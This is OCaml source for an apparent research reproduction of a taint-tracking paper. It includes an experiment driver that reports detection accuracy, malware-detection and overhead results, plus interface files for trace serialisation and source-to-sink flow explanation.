         (List.map
            (fun (name, kind) ->
              name
              ^ match kind with
                | `False_negative -> " (FN)"
                | `False_positive -> " (FP)")
            missed))

let malware ?backend ppf =
  Format.fprintf ppf
    "malware detection at the paper's operating point %s:@."
    (Policy.to_string Policy.malware_catching);
  let detected =
    List.filter
      (fun (app : App.t) ->
        let r = Recorded.record app in
        let rep = Recorded.replay ?backend ~policy:Policy.malware_catching r in
        Format.fprintf ppf "  %-14s %s@." app.App.name
          (if rep.Recorded.flagged then "DETECTED" else "missed");
        rep.Recorded.flagged)
      Malware.all
  in
  Format.fprintf ppf "detected %d / %d@." (List.length detected)
    (List.length Malware.all)

(* --- Overhead ----------------------------------------------------------- *)

(* The 200-replay grid backs both Fig. 14 and Fig. 17; compute it once
   per store backend (the first caller's job count — and rings, if
   tracing — drives the pool; the points are jobs- and
   backend-independent, so the memo stays coherent, but keying by
   backend keeps an explicit [--store] request honest). *)
let lgroot_grid =
  let memo : (Store.backend option, Overhead.point list) Hashtbl.t =
    Hashtbl.create 2
  in
  fun ?backend ?rings ~jobs () ->
    match Hashtbl.find_opt memo backend with
    | Some grid -> grid
    | None ->
        let grid =
          Overhead.grid ?backend ?rings ~jobs (lgroot_recording ())
        in
        Hashtbl.add memo backend grid;
        grid

let fig14 ?backend ?rings ?(jobs = 1) ppf =
  Overhead.render_grid
    ~title:"Fig. 14 — maximum size of tainted addresses (bytes) vs (NI, NT)"
    ~metric:(fun p -> p.Overhead.max_tainted_bytes)
    (lgroot_grid ?backend ?rings ~jobs ()) ppf ()

let fig17 ?backend ?rings ?(jobs = 1) ppf =
  Overhead.render_grid
    ~title:"Fig. 17 — maximum number of distinct ranges vs (NI, NT)"
    ~metric:(fun p -> p.Overhead.max_ranges)
    (lgroot_grid ?backend ?rings ~jobs ()) ppf ()

let series_params = [ (5, 3); (10, 3); (15, 3); (20, 3); (10, 2); (20, 1) ]

let fig15 ?backend ppf =
  let recorded = lgroot_recording () in
  let curves =
    List.map
      (fun (ni, nt) ->
        ( Printf.sprintf "(%d,%d)" ni nt,
          fst (Overhead.series ?backend recorded ~ni ~nt) ))
      series_params
  in
  Overhead.render_series
    ~title:"Fig. 15 — size of tainted addresses (bytes) over time"
    ~log_scale:true curves ppf ()

let fig16 ?backend ppf =
  let recorded = lgroot_recording () in
  let curves =
    List.map
      (fun (ni, nt) ->
        ( Printf.sprintf "(%d,%d)" ni nt,
          snd (Overhead.series ?backend recorded ~ni ~nt) ))
      series_params
  in
  Overhead.render_series
    ~title:"Fig. 16 — cumulative tainting+untainting operations over time"
    ~log_scale:true curves ppf ()

let untaint_figs ?backend ?rings ?(jobs = 1) ~metric ~title ppf =
  let effects =
    Overhead.untaint_effect ?backend ?rings ~jobs (lgroot_recording ())
      ~nis:[ 5; 10; 15; 20 ] ~nt:3
  in
  Format.fprintf ppf "@[<v>== %s ==@," title;
  Format.fprintf ppf "%8s %16s %16s %8s@," "NI" "untainting on"
    "untainting off" "ratio";
  List.iter
    (fun (ni, on, off) ->
      let a = metric on and b = metric off in
      Format.fprintf ppf "%8d %16d %16d %7.1fx@," ni a b
        (if a = 0 then 0. else float_of_int b /. float_of_int a))
    effects;
  Format.fprintf ppf "@]@."

let fig18 ?backend ?rings ?jobs ppf =
  untaint_figs ?backend ?rings ?jobs
    ~metric:(fun p -> p.Overhead.max_tainted_bytes)
    ~title:
      "Fig. 18 — effect of untainting on the maximum size of tainted \
       addresses (bytes), NT=3"
    ppf

let fig19 ?backend ?rings ?jobs ppf =
  untaint_figs ?backend ?rings ?jobs
    ~metric:(fun p -> p.Overhead.max_ranges)
    ~title:
      "Fig. 19 — effect of untainting on the maximum number of distinct \
       ranges, NT=3"
    ppf

(* --- Hardware model ----------------------------------------------------- *)

let hw ?backend ppf =
  let recorded = lgroot_recording () in
  let storage =
    Storage.create ~entries:2730 ~eviction:Storage.Lru_writeback ?backend ()
  in
  let store = Store.of_storage storage in
  let replay = Recorded.replay ~store ~policy:Policy.default recorded in
  let s = Storage.stats storage in
  Format.fprintf ppf
    "@[<v>== PIFT hardware module on the LGRoot trace (32 KiB range cache, \
     LRU writeback) ==@,\
     flagged: %b@,\
     lookups: %d (hits %d, secondary hits %d)@,\
     insertions: %d, evictions: %d, writebacks: %d@,\
     max occupancy: %d / 2730 entries@,@,"
    replay.Recorded.flagged s.Storage.lookups s.Storage.hits
    s.Storage.secondary_hits s.Storage.insertions s.Storage.evictions
    s.Storage.writebacks s.Storage.max_occupancy;
  let report =
    Hw_model.estimate
      ~total_insns:(Trace.length recorded.Recorded.trace)
      ~loads:(Trace.loads recorded.Recorded.trace)
      ~stores:(Trace.stores recorded.Recorded.trace)
      ~secondary_hits:s.Storage.secondary_hits ()
  in
  Format.fprintf ppf "%a@,@]@." Hw_model.pp_report report

let ablation_storage ?backend ppf =
  let recorded = lgroot_recording () in
  Format.fprintf ppf
    "@[<v>== Ablation — taint-storage capacity and eviction policy \
     (LGRoot, %s) ==@,"
    (Policy.to_string Policy.default);
  Format.fprintf ppf "%10s %16s %10s %10s %10s %10s %10s@," "entries"
    "eviction" "flagged" "evict" "drop" "2nd-hits" "overhead";
  let run entries eviction name =
    let storage = Storage.create ~entries ~eviction ?backend () in
    let replay =
      Recorded.replay ~store:(Store.of_storage storage) ~policy:Policy.default
        recorded
    in
    let s = Storage.stats storage in
    let report =
      Hw_model.estimate
        ~total_insns:(Trace.length recorded.Recorded.trace)
        ~loads:(Trace.loads recorded.Recorded.trace)
        ~stores:(Trace.stores recorded.Recorded.trace)
        ~secondary_hits:s.Storage.secondary_hits ()
    in
    Format.fprintf ppf "%10d %16s %10b %10d %10d %10d %9.2f%%@," entries name
      replay.Recorded.flagged s.Storage.evictions s.Storage.drops
      s.Storage.secondary_hits report.Hw_model.pift_overhead_pct
  in
  List.iter
    (fun entries ->
      run entries Storage.Lru_writeback "lru-writeback";
      run entries Storage.Drop "drop")
    [ 16; 64; 256; 2730 ];
  Format.fprintf ppf "@]@."

let ablation_granularity ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Ablation — arbitrary ranges vs fixed-granularity block \
     tagging (DroidBench subset, %s) ==@,"
    (Policy.to_string Policy.default);
  Format.fprintf ppf "%16s %10s %6s %6s %16s@," "granularity" "accuracy" "FP"
    "FN" "max tainted (B)";
  let eval granularity name =
    let confusion = ref { Accuracy.tp = 0; fp = 0; tn = 0; fn = 0 } in
    let max_bytes = ref 0 in
    List.iter
      (fun (app : App.t) ->
        let recorded = Recorded.record app in
        let storage = Storage.create ~entries:8192 ~granularity ?backend () in
        let replay =
          Recorded.replay ~store:(Store.of_storage storage)
            ~policy:Policy.default recorded
        in
        max_bytes :=
          max !max_bytes
            replay.Recorded.stats.Tracker.max_tainted_bytes;
        let c = !confusion in
        confusion :=
          (match (app.App.leaky, replay.Recorded.flagged) with
          | true, true -> { c with Accuracy.tp = c.Accuracy.tp + 1 }
          | true, false -> { c with Accuracy.fn = c.Accuracy.fn + 1 }
          | false, true -> { c with Accuracy.fp = c.Accuracy.fp + 1 }
          | false, false -> { c with Accuracy.tn = c.Accuracy.tn + 1 }))
      Droidbench.subset48;
    let c = !confusion in
    Format.fprintf ppf "%16s %9.1f%% %6d %6d %16d@," name
      (100. *. Accuracy.accuracy c)
      c.Accuracy.fp c.Accuracy.fn !max_bytes
  in
  eval None "ranges";
  eval (Some 2) "4-byte blocks";
  eval (Some 6) "64-byte blocks";
  Format.fprintf ppf "@]@."

(* --- Extensions ---------------------------------------------------------- *)

let evasion ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Evasion (§4.2) and the compiler countermeasure (§7) ==@,\
     The attack stretches each load→store pair with %d dummy instructions;@,\
     the hardened runtime runs native fragments through dead-code \
     elimination and store relocation first (Evasion2's dummy block is \
     live, so only relocation helps).@,@,"
    Pift_workloads.Evasion.dummy_block_length;
  Format.fprintf ppf "%-18s %14s %14s %12s@," "app" "PIFT (13,3)"
    "PIFT (20,10)" "full DIFT";
  List.iter
    (fun (app : App.t) ->
      let r = Recorded.record app in
      let p13 = Recorded.replay ?backend ~policy:Policy.default r in
      let p20 =
        Recorded.replay ?backend ~policy:(Policy.make ~ni:20 ~nt:10 ()) r
      in
      let d = Recorded.replay_dift ?backend r in
      let v b = if b then "DETECTED" else "missed" in
      Format.fprintf ppf "%-18s %14s %14s %12s@," app.App.name
        (v p13.Recorded.flagged) (v p20.Recorded.flagged)
        (v d.Recorded.dift_flagged))
    Pift_workloads.Evasion.all;
  Format.fprintf ppf "@]@."

let ablation_jit ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Ablation — interpreter vs JIT/AOT compilation (§4.1) ==@,\
     JIT mode removes per-bytecode fetch/dispatch and dead decode work; \
     virtual registers stay in memory.@,@,";
  let confusion mode =
    List.fold_left
      (fun c (app : App.t) ->
        let r = Recorded.record ~mode app in
        let f =
          (Recorded.replay ?backend ~policy:Policy.default r).Recorded.flagged
        in
        match (app.App.leaky, f) with
        | true, true -> { c with Accuracy.tp = c.Accuracy.tp + 1 }
        | true, false -> { c with Accuracy.fn = c.Accuracy.fn + 1 }
        | false, true -> { c with Accuracy.fp = c.Accuracy.fp + 1 }
        | false, false -> { c with Accuracy.tn = c.Accuracy.tn + 1 })
      { Accuracy.tp = 0; fp = 0; tn = 0; fn = 0 }
      Droidbench.subset48
  in
  let report name mode =
    let c = confusion mode in
    Format.fprintf ppf
      "%-12s accuracy %.1f%% (tp=%d fp=%d tn=%d fn=%d) at %s@," name
      (100. *. Accuracy.accuracy c)
      c.Accuracy.tp c.Accuracy.fp c.Accuracy.tn c.Accuracy.fn
      (Policy.to_string Policy.default)
  in
  report "interpreter" Pift_dalvik.Vm.Interpreter;
  report "jit" Pift_dalvik.Vm.Jit;
  let sample = Option.get (Droidbench.find "StringConcat1") in
  let li =
    Trace.length
      (Recorded.record ~mode:Pift_dalvik.Vm.Interpreter sample).Recorded.trace
  in
  let lj =
    Trace.length
      (Recorded.record ~mode:Pift_dalvik.Vm.Jit sample).Recorded.trace
  in
  Format.fprintf ppf
    "@,StringConcat1 executes %d instructions interpreted, %d JITed@,\
     (the stream is dominated by framework copy loops, which compilation@,\
     does not change — the paper's argument for JIT-insensitivity;@,\
     note the error set shifts: distances compress by the ~2-instruction@,\
     dispatch overhead, so the hard implicit flow is caught while one@,\
     benign register-cleansing pattern turns into a false positive).@]@."
    li lj

let multiproc ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Multi-process tracking: PID tags and context switches ==@,";
  (* one machine, two processes sharing frame addresses *)
  let module Tracker = Pift_core.Tracker in
  let module Manager = Pift_runtime.Manager in
  let module Cpu = Pift_machine.Cpu in
  let tracker =
    Tracker.create ~policy:Policy.default ~store:(Store.create ?backend ()) ()
  in
  let storage = Storage.create ~entries:64 ?backend () in
  let hw = Tracker.create ~policy:Policy.default ~store:(Store.of_storage storage) () in
  let env = Pift_runtime.Env.create ~sink:(fun e ->
      Tracker.observe tracker e;
      Tracker.observe hw e) () in
  Manager.add_tracker env.Pift_runtime.Env.manager ~name:"pift"
    ~taint:(Tracker.taint_source tracker)
    ~check:(Tracker.is_tainted tracker);
  Manager.add_tracker env.Pift_runtime.Env.manager ~name:"pift-hw"
    ~taint:(Tracker.taint_source hw)
    ~check:(Tracker.is_tainted hw);
  let run_as pid (app : App.t) =
    Cpu.set_pid env.Pift_runtime.Env.cpu pid;
    Storage.context_switch storage;
    let vm =
      Pift_dalvik.Vm.create
        ~natives:(Pift_runtime.Api.registry @ app.App.natives)
        env (app.App.program ())
    in
    match Pift_dalvik.Vm.run vm with `Ok | `Uncaught _ -> ()
  in
  run_as 1 (Option.get (Droidbench.find "StringConcat1"));
  run_as 2 (Option.get (Droidbench.find "BenignConstant1"));
  let verdicts = Manager.verdicts env.Pift_runtime.Env.manager in
  List.iter
    (fun (v : Manager.verdict) ->
      Format.fprintf ppf "pid %d sink %-5s -> %s@," v.Manager.pid
        v.Manager.sink
        (String.concat ", "
           (List.map
              (fun (n, b) -> Printf.sprintf "%s:%s" n (if b then "TAINTED" else "clean"))
              v.Manager.tainted)))
    verdicts;
  let s = Storage.stats storage in
  Format.fprintf ppf
    "the leaky pid-1 run is flagged; pid 2 reuses the same frame \
     addresses@,\
     yet stays clean thanks to the per-entry PID tag (Fig. 6).@,\
     context-switch writebacks: %d@,@]@."
    s.Storage.writebacks

(* Drive a Deferred tracker over a recording: markers interleaved at
   their sequence points, a background drain tick every [period] events. *)
let deferred_run recorded ~buffer_size ~drain_batch ~period =
  let module Deferred = Pift_core.Deferred in
  let d =
    Deferred.create ~policy:Policy.default ~buffer_size ~drain_batch ()
  in
  let flagged = ref false in
  let markers = recorded.Recorded.markers in
  let mi = ref 0 in
  let apply_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      (match snd markers.(!mi) with
      | Recorded.Source { range; _ } ->
          Deferred.taint_source d ~pid:recorded.Recorded.pid range
      | Recorded.Sink { ranges; _ } ->
          if
            List.exists
              (fun r -> Deferred.check d ~pid:recorded.Recorded.pid r)
              ranges
          then flagged := true);
      incr mi
    done
  in
  apply_until 0;
  let n = ref 0 in
  Trace.iter
    (fun e ->
      Deferred.observe d e;
      incr n;
      if !n mod period = 0 then Deferred.tick d;
      apply_until e.Pift_trace.Event.seq)
    recorded.Recorded.trace;
  apply_until max_int;
  (!flagged, Deferred.dropped d)

let deferred ppf =
  Format.fprintf ppf
    "@[<v>== Deferred (off-critical-path) tracking: the buffered \
     load/store stream of section 1 ==@,\
     The FIFO drains [batch] events every [period] instructions; sink \
     checks stall until the buffer is empty.@,@,";
  Format.fprintf ppf "%10s %8s %10s %10s %12s@," "buffer" "batch" "period"
    "flagged" "dropped";
  let recorded = lgroot_recording () in
  List.iter
    (fun (buffer_size, drain_batch, period) ->
      let flagged, dropped =
        deferred_run recorded ~buffer_size ~drain_batch ~period
      in
      Format.fprintf ppf "%10d %8d %10d %10b %12d@," buffer_size drain_batch
        period flagged dropped)
    [
      (4096, 256, 256);
      (4096, 1024, 1024);
      (1024, 64, 1024);
      (256, 32, 2048);
      (64, 16, 65536);
    ];
  Format.fprintf ppf
    "@,losing events never creates false positives, only missed windows;@,\
     with a drain that keeps up, deferred verdicts equal the online ones.@]@."

let fig2_multi ppf =
  Format.fprintf ppf
    "@[<v>== Fig. 2 across applications (the paper analysed \"a number of \
     app executions\") ==@,";
  Format.fprintf ppf "%-16s %10s %8s %8s %10s %10s@," "app" "insns"
    "loads" "stores" "cdf(5)" "cdf(10)";
  let study (name, recorded) =
    let stats = Tracestats.analyse recorded in
    let h = Tracestats.load_store_distance stats in
    Format.fprintf ppf "%-16s %10d %8d %8d %9.2f%% %9.2f%%@," name
      (Trace.length recorded.Recorded.trace)
      (Trace.loads recorded.Recorded.trace)
      (Trace.stores recorded.Recorded.trace)
      (100. *. Pift_util.Histogram.cdf h 5)
      (100. *. Tracestats.coverage_within stats 10)
  in
  let record app = Recorded.record app in
  List.iter study
    [
      ("LGRoot", lgroot_recording ());
      ("Browser", record Pift_workloads.Browser.app);
      ("StringConcat1", record (Option.get (Droidbench.find "StringConcat1")));
      ("ImplicitFlow1", record (Option.get (Droidbench.find "ImplicitFlow1")));
      ("Loop2", record (Option.get (Droidbench.find "Loop2")));
    ];
  Format.fprintf ppf
    "@,every workload shows the same structure: the overwhelming mass of@,\
     store-to-last-load distances sits within 10 instructions.@]@."

let extended ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Extended suite — patterns beyond DroidBench 1.1 ==@,";
  Format.fprintf ppf "%-20s %-26s %7s %12s %12s@," "app" "category" "label"
    "PIFT (13,3)" "full DIFT";
  let correct = ref 0 in
  List.iter
    (fun (a : App.t) ->
      let r = Recorded.record a in
      let p = Recorded.replay ?backend ~policy:Policy.default r in
      let d = Recorded.replay_dift ?backend r in
      if p.Recorded.flagged = a.App.leaky then incr correct;
      Format.fprintf ppf "%-20s %-26s %7s %12s %12s@," a.App.name
        a.App.category
        (if a.App.leaky then "leaky" else "benign")
        (if p.Recorded.flagged then "DETECTED" else "clean")
        (if d.Recorded.dift_flagged then "DETECTED" else "clean"))
    Pift_workloads.Extended.all;
  Format.fprintf ppf
    "@,%d / %d classified correctly at the paper's operating point@,\
     (the one miss is TruncatedClean1, a documented precision limit:@,\
     sending only the clean prefix of a mixed string is flagged because@,\
     the result-reference slot is overtainted and the substring copy@,\
     starts inside its window).@,     (At extreme windows such as (20,10), the SharedPrefs2 reset pattern@,     turns into a false positive through reference-slot overtainting —@,     the \"larger NI increases the chance of a propagation\" cost the@,     paper describes.)@]@."
    !correct
    (List.length Pift_workloads.Extended.all)

let provenance ppf =
  Format.fprintf ppf
    "@[<v>== Provenance extension — which sources reached each sink \
     (multi-label tags, cf. Raksha) ==@,";
  List.iter
    (fun (app : App.t) ->
      let r = Recorded.record app in
      let verdicts = Recorded.replay_provenance ~policy:Policy.default r in
      List.iter
        (fun (v : Recorded.provenance_verdict) ->
          Format.fprintf ppf "%-14s sink %-5s <- %s@," app.App.name
            v.Recorded.pv_kind
            (if v.Recorded.leaked = [] then "(clean)"
             else String.concat ", " v.Recorded.leaked))
        verdicts)
    Malware.all;
  Format.fprintf ppf "@]@."

let attribution ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Attribution accuracy — predicted origin sets vs full-DIFT \
     ground truth (true-positive sinks) ==@,";
  let at =
    Accuracy.attribution ?backend ~policy:Policy.default
      (Droidbench.subset48 @ Malware.all)
  in
  Accuracy.render_attribution at ppf ();
  Format.fprintf ppf "@]@."

let min_windows ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Minimal windows per app (the per-leakage-type upper bound \
     the paper leaves to future work) ==@,";
  Format.fprintf ppf "%-24s %10s %10s@," "app" "min NI@NT=3" "min NT@NI=20";
  let leaky_subset =
    List.filter (fun (a : App.t) -> a.App.leaky) Droidbench.subset48
  in
  List.iter
    (fun (app : App.t) ->
      let r = Recorded.record app in
      let flagged ni nt =
        (Recorded.replay ?backend ~policy:(Policy.make ~ni ~nt ()) r)
          .Recorded.flagged
      in
      let min_ni =
        List.find_opt (fun ni -> flagged ni 3) (List.init 20 (fun i -> i + 1))
      in
      let min_nt =
        List.find_opt (fun nt -> flagged 20 nt) (List.init 10 (fun i -> i + 1))
      in
      let s = function Some v -> string_of_int v | None -> ">max" in
      Format.fprintf ppf "%-24s %10s %10s@," app.App.name (s min_ni)
        (s min_nt))
    leaky_subset;
  Format.fprintf ppf "@]@."

let categories ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Per-category results at %s (FlowDroid-style breakdown) ==@,"
    (Policy.to_string Policy.default);
  Format.fprintf ppf "%-30s %6s %6s %6s %6s@," "category" "apps" "ok" "FP"
    "FN";
  let tbl = Hashtbl.create 16 in
  List.iter
    (fun (a : App.t) ->
      let r = Recorded.record a in
      let flagged =
        (Recorded.replay ?backend ~policy:Policy.default r).Recorded.flagged
      in
      let ok, fp, fn =
        match (a.App.leaky, flagged) with
        | true, true | false, false -> (1, 0, 0)
        | false, true -> (0, 1, 0)
        | true, false -> (0, 0, 1)
      in
      let t, o, p, n =
        Option.value ~default:(0, 0, 0, 0)
          (Hashtbl.find_opt tbl a.App.category)
      in
      Hashtbl.replace tbl a.App.category (t + 1, o + ok, p + fp, n + fn))
    Droidbench.all;
  Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl []
  |> List.sort compare
  |> List.iter (fun (cat, (t, o, p, n)) ->
         Format.fprintf ppf "%-30s %6d %6d %6d %6d@," cat t o p n);
  Format.fprintf ppf "@]@."

let advise ppf =
  Format.fprintf ppf
    "@[<v>== Operating-point advisor (the per-leakage-type upper-bound \
     study of section 5.1, automated) ==@,";
  let corpus = Advisor.of_apps Droidbench.subset48 in
  (match Advisor.recommend corpus with
  | Some c ->
      Format.fprintf ppf "recommended %a@," Advisor.pp_candidate c
  | None ->
      Format.fprintf ppf "no perfect policy on the grid@,");
  Format.fprintf ppf "paper's point %a@," Advisor.pp_candidate
    (Advisor.evaluate corpus ~policy:Policy.default);
  Format.fprintf ppf "@]@."

let summary ?backend ppf =
  Format.fprintf ppf
    "@[<v>== Headline numbers (paper section 5.1) ==@,";
  let c =
    Accuracy.evaluate ?backend ~policy:Policy.default Droidbench.subset48
  in
  Format.fprintf ppf
    "DroidBench subset at %s: accuracy %.1f%% (paper: 97.9%%), FP %.0f%% \
     (paper: 0%%), FN %.1f%% (paper: 2%%)@,"
    (Policy.to_string Policy.default)
    (100. *. Accuracy.accuracy c)
    (100. *. Accuracy.fp_rate c)
    (100. *. Accuracy.fn_rate c);
  let c100 =
    Accuracy.evaluate ?backend ~policy:Policy.perfect_droidbench
      Droidbench.subset48
  in
  Format.fprintf ppf "at %s: accuracy %.1f%% (paper: 100%%)@,"
    (Policy.to_string Policy.perfect_droidbench)
    (100. *. Accuracy.accuracy c100);
  let detected =
    List.filter
      (fun app ->
        (Recorded.replay ?backend ~policy:Policy.malware_catching
           (Recorded.record app))
          .Recorded.flagged)
      Malware.all
  in
  Format.fprintf ppf "malware at %s: %d/7 detected (paper: 7/7)@,"
    (Policy.to_string Policy.malware_catching)
    (List.length detected);
  Format.fprintf ppf "@]@."

let all =
  [
    ("fig2", "load/store distance distributions (LGRoot trace)");
    ("table1", "per-bytecode load-store distances, measured vs expected");
    ("fig10", "top-30 bytecode frequency distributions");
    ("fig11", "accuracy heatmap over NI x NT (48-app DroidBench subset)");
    ("malware", "seven real-world malware at NI=3, NT=2");
    ("fig12", "# stores within windows of various sizes");
    ("fig13", "mean distance to the k-th store in a window");
    ("fig14", "max tainted bytes vs (NI, NT)");
    ("fig15", "tainted bytes over time");
    ("fig16", "cumulative taint/untaint operations over time");
    ("fig17", "max distinct ranges vs (NI, NT)");
    ("fig18", "untainting effect on tainted bytes");
    ("fig19", "untainting effect on distinct ranges");
    ("hw", "hardware range-cache statistics and overhead model");
    ("ablation-storage", "cache capacity and eviction-policy ablation");
    ("ablation-granularity", "range vs block-granularity storage ablation");
    ("ablation-jit", "interpreter vs JIT/AOT compilation (§4.1)");
    ("evasion", "§4.2 native obfuscation attack + §7 compiler countermeasure");
    ("multiproc", "PID-tagged tracking across context switches");
    ("provenance", "per-source taint labels at each sink");
    ("attribution", "origin-set accuracy vs full-DIFT ground truth");
    ("extended", "post-DroidBench-1.1 flow patterns");
    ("deferred", "buffered off-critical-path tracking (section 1)");
    ("fig2-multi", "load/store structure across several apps");
    ("categories", "per-category accuracy breakdown");
    ("advise", "cheapest perfect operating point on the subset");
    ("min-windows", "per-app minimal detection windows");
    ("summary", "headline accuracy and detection numbers");
  ]

let run ?backend ?rings ?on_cell ?jobs id ppf =
  header ppf id;
  match id with
  | "fig2" -> fig2 ppf
  | "table1" -> table1 ppf
  | "fig10" -> fig10 ppf
  | "fig11" -> fig11 ?backend ?rings ?on_cell ?jobs ppf
  | "malware" -> malware ?backend ppf
  | "fig12" -> fig12 ppf
  | "fig13" -> fig13 ppf
  | "fig14" -> fig14 ?backend ?rings ?jobs ppf
  | "fig15" -> fig15 ?backend ppf
  | "fig16" -> fig16 ?backend ppf
  | "fig17" -> fig17 ?backend ?rings ?jobs ppf
  | "fig18" -> fig18 ?backend ?rings ?jobs ppf
  | "fig19" -> fig19 ?backend ?rings ?jobs ppf
  | "hw" -> hw ?backend ppf
  | "ablation-storage" -> ablation_storage ?backend ppf
  | "ablation-granularity" -> ablation_granularity ?backend ppf
  | "ablation-jit" -> ablation_jit ?backend ppf
  | "evasion" -> evasion ?backend ppf
  | "multiproc" -> multiproc ?backend ppf
  | "provenance" -> provenance ppf
  | "attribution" -> attribution ?backend ppf
  | "extended" -> extended ?backend ppf
  | "deferred" -> deferred ppf
  | "fig2-multi" -> fig2_multi ppf
  | "categories" -> categories ?backend ppf
  | "advise" -> advise ppf
  | "min-windows" -> min_windows ?backend ppf
  | "summary" -> summary ?backend ppf
  | other -> failwith ("Experiments.run: unknown experiment " ^ other)

let run_all ?backend ?rings ?jobs ppf =
  List.iter (fun (id, _) -> run ?backend ?rings ?jobs id ppf) all
