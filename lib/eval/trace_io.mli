(** Recording serialization — the paper's offline pipeline as an artefact.

    The paper's evaluation dumps gem5 instruction traces together with the
    source/sink address ranges printed by PIFT Native, and feeds both into
    the analysis code.  This module persists a {!Recorded.t} in two
    formats, autodetected on load:

    {2 Text ([PIFT-TRACE 1])}

    A simple line-oriented format so recordings can be archived, diffed,
    and re-analysed (including by external tools):

    {v
    PIFT-TRACE 1
    name <string>
    pid <int>
    bytecodes <int>
    L <seq> <k> <pid> <lo> <len>     # load event
    S <seq> <k> <pid> <lo> <len>     # store event
    O <seq> <k> <pid>                # non-memory event
    M <seq> SRC <kind> <lo> <len>    # source registration marker
    M <seq> SNK <kind> (<lo> <len>)* # sink check marker
    v}

    {2 Binary ([PIFTBIN1])}

    A compact length-prefixed record stream for large recordings: after
    the 8-byte magic and a varint header (name, pid, bytecodes), each
    record is a varint payload length followed by a tag byte and
    LEB128-varint fields.  Sequence numbers, instruction counters, and
    range starts are zigzag-coded deltas against the previous record, so
    the common consecutive-event case costs one byte per field.  The
    length prefix bounds every record: truncated or corrupt files are
    rejected with the failing record's number.

    Either format round-trips loads, stores, and markers exactly —
    replaying a loaded recording produces byte-identical verdicts.
    Non-memory instructions are serialised as opaque [O] records: a
    loaded recording supports the PIFT analysis and all trace
    statistics, but not the register-level full-DIFT baseline (which
    needs instruction operands — run it live instead). *)

type format = Text | Binary

val format_to_string : format -> string
val format_of_string : string -> format option

val save : ?format:format -> Recorded.t -> string -> unit
(** [save recording path] — writes the file, overwriting.  [format]
    defaults to [Text]. *)

val load : ?profile:Pift_obs.Profile.t -> string -> Recorded.t
(** Autodetects the format from the magic bytes.  Raises [Failure] with
    a line number (text) or record number (binary) on malformed input.
    With [profile], the whole parse is attributed to a ["trace_io"]
    region, so decode cost shows up in the overhead breakdown next to
    tracker and store time. *)

val detect_format : string -> format
(** Peeks at the magic bytes; files too short to be binary (or with any
    other leading bytes) report [Text], whose parser owns the error. *)

val to_channel : Recorded.t -> out_channel -> unit
val of_channel : in_channel -> Recorded.t

val to_channel_binary : Recorded.t -> out_channel -> unit
val of_channel_binary : in_channel -> Recorded.t

type header = { h_name : string; h_pid : int; h_bytecodes : int }

val iter_channel_binary :
  in_channel ->
  on_event:(Pift_trace.Event.t -> unit) ->
  on_marker:(int -> Recorded.marker -> unit) ->
  header
(** Streaming binary reader: decodes records into the callbacks in file
    order without materialising any per-event list, reusing one scratch
    buffer across records.  Returns the header once the stream ends.
    Raises [Failure] with the record number on malformed input. *)

(** {1 Streaming readers}

    Event-at-a-time ingestion over either format: the service engine
    multiplexes many open traces without ever materialising one, so
    resident memory is one buffered chunk (binary) or one line (text)
    per tenant, whatever the trace length. *)

type reader
(** An open trace positioned after its header.  Not an unbounded
    resource cache: one file descriptor until {!close_reader}. *)

val open_reader : string -> reader
(** Autodetects the format and parses the header eagerly — a bad magic
    or truncated header raises the same positioned [Failure] as {!load}
    (and the file is closed).  Items then come one {!read_item} at a
    time. *)

val read_item : reader -> Recorded.item option
(** Next item in file order — the replay interleaving the writers emit
    ({!Recorded.items}).  [None] at a clean end of stream.  Malformed or
    truncated input raises [Failure] with the line (text) or record
    (binary) position; items before the corruption have already been
    delivered, so an ingester can account for partial streams. *)

val reader_header : reader -> header
val reader_format : reader -> format

val close_reader : reader -> unit
(** Idempotent. *)

val with_reader : string -> (reader -> 'a) -> 'a
(** [with_reader path f] opens, applies [f], and always closes. *)
