(** Flow explanation: reconstruct {e how} taint travelled from a source
    to a sink under Algorithm 1.

    The replay records, for every propagation, which store was tainted
    and which tainted load opened its window.  Walking those links
    backward from the flagged sink range yields the chain of
    load→store hops — the paper's §2 picture ("repeating this prediction
    process creates a chain of load–store operations …, eventually
    establishing whether an information flow from a source to a sink
    exists"), made inspectable per run.

    Two views share one label-carrying replay
    ({!Pift_core.Provenance} with its propagation hook): {!explain}
    reproduces the single most-recent chain per flagged sink, and
    {!flow_graph} materializes the full per-origin provenance graph
    ({!Pift_core.Provenance.Graph}) with one source→…→sink path per
    origin label. *)

type hop = {
  store_seq : int;  (** global sequence of the tainted store *)
  stored : Pift_util.Range.t;  (** range the store tainted *)
  load_seq : int;  (** the tainted load that opened the window *)
  loaded : Pift_util.Range.t;  (** range that load read *)
}

type flow = {
  sink_kind : string;
  sink_range : Pift_util.Range.t;  (** the flagged range at the sink *)
  hops : hop list;  (** sink-to-source order *)
  source : Pift_util.Range.t option;
      (** the registered source range the chain bottoms out in, if the
          walk reaches one *)
}

val explain :
  ?policy:Pift_core.Policy.t -> Recorded.t -> flow list
(** One {!flow} per flagged sink check (empty when nothing is flagged).
    Chains are capped at 64 hops. *)

val pp_flow : Format.formatter -> flow -> unit

(** {1 Provenance flow graphs} *)

type path = {
  p_origin : string;  (** the source kind this path attributes *)
  p_nodes : Pift_core.Provenance.Graph.node list;
      (** source-first: [N_source] … [N_sink]; a bare [[sink]] only if
          the walk could not reach a source (should not happen for
          tracker-flagged sinks — see the union invariant) *)
}

type sink_flow = {
  sf_check : int;  (** 1-based sink-check index in marker order *)
  sf_kind : string;
  sf_range : Pift_util.Range.t;
  sf_seq : int;  (** global sequence of the sink check *)
  sf_origins : string list;  (** sorted origin set at the sink *)
  sf_paths : path list;  (** one per origin, in [sf_origins] order *)
}

val flow_graph :
  ?policy:Pift_core.Policy.t ->
  Recorded.t ->
  Pift_core.Provenance.Graph.t * sink_flow list
(** Replay the recording with per-label provenance and build the flow
    graph: nodes are source registrations, window-opening loads,
    in-window stores and flagged sink checks (cached — re-visited
    program points are shared); edges are propagations stamped with the
    global sequence at which they happened.  One {!sink_flow} per
    flagged sink check, in check order. *)

val summaries : sink_flow list -> Pift_core.Provenance.Graph.sink_summary list
